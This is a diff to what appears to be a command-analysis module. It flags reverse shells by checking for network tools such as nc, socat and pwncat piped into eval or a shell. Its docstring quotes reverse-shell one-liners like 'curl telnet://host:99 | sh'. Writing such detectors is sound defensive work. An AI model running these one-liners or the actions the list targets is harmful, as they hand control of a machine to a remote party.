@@ -16,7 +16,8 @@ NETWORK: Final = names(
     "nc ncat netcat telnet socat openssl curl wget cryptcat ssh nc.traditional nc.openbsd rustcat rcat sbd gs-netcat"
     " socket websocat pwncat"
 )
-_RAW: Final = NETWORK - {"curl", "wget", "ssh"}
+_CLIENTS: Final = frozenset(("curl", "wget", "ssh"))
+_RAW: Final = NETWORK - _CLIENTS
 _ENCRYPTERS: Final = names("gpg openssl zip 7z 7za age ccrypt")
 _ENCRYPTS: Final = ("-c", "-e", "--symmetric", "--encrypt", "-k", "-pass", "-P", "-p")
 _TRANSFERS: Final = frozenset(("ftp", "sftp", "tftp", "lftp", "smbclient", "ncftp"))
@@ -59,9 +60,12 @@ def relate(drafts: Sequence[Draft], text: str) -> None:
 def _obeys(drafts: Sequence[Draft]) -> None:
     """`nc -l 99 | while read c; do eval $c; done`, `curl telnet://host:99 | sh`: whoever is connected gives orders."""
     typed = any(url.startswith("telnet:") for d in drafts if d.program == "curl" for url in d.fetches)
-    for draft in drafts:
-        ordered = draft.piped_from in _RAW and draft.program in ("eval", None)
-        if ordered or (typed and draft.piped_from == "curl" and _is_open_shell(draft)):
+    raw = {d.program for d in drafts if d.program in _RAW and _connects(d)}
+    fetched = any(d.program in _CLIENTS for d in drafts)
+    for draft in drafts if raw or typed else ():
+        ordered = draft.piped_from in raw and draft.program in ("eval", None)
+        told = bool(raw) and not fetched and "executes-fetched" in draft.facts
+        if ordered or told or (typed and draft.piped_from == "curl" and _is_open_shell(draft)):
             draft.facts.add("reverse-shell")
 
 
